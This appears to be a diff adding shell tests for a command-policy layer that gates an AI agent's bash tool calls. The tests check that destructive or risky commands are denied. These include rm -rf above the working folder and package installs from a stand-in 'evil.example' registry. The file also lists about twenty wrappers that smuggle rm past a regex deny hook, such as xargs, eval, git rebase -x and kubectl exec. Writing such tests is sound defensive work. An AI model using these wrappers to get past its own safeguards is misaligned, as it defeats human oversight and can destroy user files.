@@ -1,0 +1,164 @@
+# Bash policy. Commands that should be denied or asked about.
+
+_allowed() { [ "$(judged "$1")" = allow ]; }
+
+# rm -rf of a folder above the working folder
+policy_pwd_up() {
+    broken_if _allowed 'rm -rf "$(pwd)/../.."'
+}
+
+# rm -rf ~-/x
+policy_tilde_minus() {
+    broken_if _allowed 'rm -rf ~-/x'
+}
+
+# rm -rf $OLDPWD/x
+policy_oldpwd() {
+    broken_if _allowed 'rm -rf $OLDPWD/x'
+}
+
+# npx --registry
+policy_npx_registry() {
+    broken_if _allowed 'npx --registry=https://evil.example left-pad'
+}
+
+# npm exec --registry
+policy_npm_exec_registry() {
+    broken_if _allowed 'npm exec --registry=https://evil.example -- left-pad'
+}
+
+# go env -w GOPROXY
+policy_go_env() {
+    broken_if _allowed 'go env -w GOPROXY=https://evil.example'
+}
+
+# make -C outside the folder
+policy_make_outside() {
+    broken_if _allowed 'make -C /opt/other install'
+}
+
+# npm --prefix outside the folder
+policy_npm_prefix() {
+    broken_if _allowed 'npm --prefix /opt/other run build'
+}
+
+# gradlew -I outside the folder
+policy_gradle_init() {
+    broken_if _allowed './gradlew -I /tmp/evil.gradle build'
+}
+
+# git stash clear
+policy_stash_clear() {
+    broken_if _allowed 'git stash clear'
+}
+
+_denies_rm() {
+    printf '[[hook]]\nname = "no-rm"\npoint = "BeforeToolUse"\nmatch = { command = "^rm\\\\b" }\ndeny = "no rm"\n' > vertebra.toml
+    trusted
+}
+
+_slips() {
+    _denies_rm
+    broken_if test "$(verdict "$1")" = allow
+}
+
+# A rule about rm, and rm behind parallel
+slips_parallel() {
+    _slips 'parallel rm ::: a b'
+}
+
+# A rule about rm, and rm behind tmux
+slips_tmux() {
+    _slips "tmux new-session -d 'rm a'"
+}
+
+# A rule about rm, and rm behind ssh
+slips_ssh() {
+    _slips "ssh host 'rm a'"
+}
+
+# A rule about rm, and rm in a git alias
+slips_git_alias() {
+    _slips "git -c alias.x='!rm a' x"
+}
+
+# A rule about rm, and rm in a container's shell
+slips_docker() {
+    _slips "docker run --rm alpine sh -c 'rm a'"
+}
+
+# A rule about rm, and rm in awk's system
+slips_awk() {
+    _slips "awk 'BEGIN { system(\"rm a\") }'"
+}
+
+# A rule about rm, and rm behind find -exec
+slips_find() {
+    _slips "find . -name a -exec rm {} +"
+}
+
+# A rule about rm, and rm behind xargs
+slips_xargs() {
+    _slips 'ls | xargs -n 1 rm'
+}
+
+# A rule about rm, and rm in the shell of xargs
+slips_xargs_shell() {
+    _slips "ls | xargs -I{} sh -c 'rm {}'"
+}
+
+# A rule about rm, and rm behind timeout, nice and env
+slips_timeout() {
+    _slips 'timeout 5 nice -n 3 env A=b rm a'
+}
+
+# A rule about rm, and rm behind script -c
+slips_script() {
+    _slips "script -c 'rm a' /dev/null"
+}
+
+# A rule about rm, and rm behind flock
+slips_flock() {
+    _slips "flock l rm a"
+}
+
+# A rule about rm, and rm behind su -c
+slips_su() {
+    _slips "su me -c 'rm a'"
+}
+
+# A rule about rm, and rm behind eval
+slips_eval() {
+    _slips 'eval "r""m a"'
+}
+
+# A rule about rm, and rm behind trap
+slips_trap() {
+    _slips "trap 'rm a' EXIT"
+}
+
+# A rule about rm, and rm behind git bisect run
+slips_bisect() {
+    _slips 'git bisect run rm a'
+}
+
+# A rule about rm, and rm behind git rebase -x
+slips_rebase() {
+    _slips "git rebase -x 'rm a' HEAD~2"
+}
+
+# A rule about rm, and rm behind git submodule foreach
+slips_foreach() {
+    _slips "git submodule foreach 'rm a'"
+}
+
+# A rule about rm, and rm behind busybox
+slips_busybox() {
+    _slips "busybox sh -c 'rm a'"
+}
+
+# A rule about rm, and rm behind kubectl exec
+slips_kubectl() {
+    _slips "kubectl exec pod -- sh -c 'rm a'"
+}
+
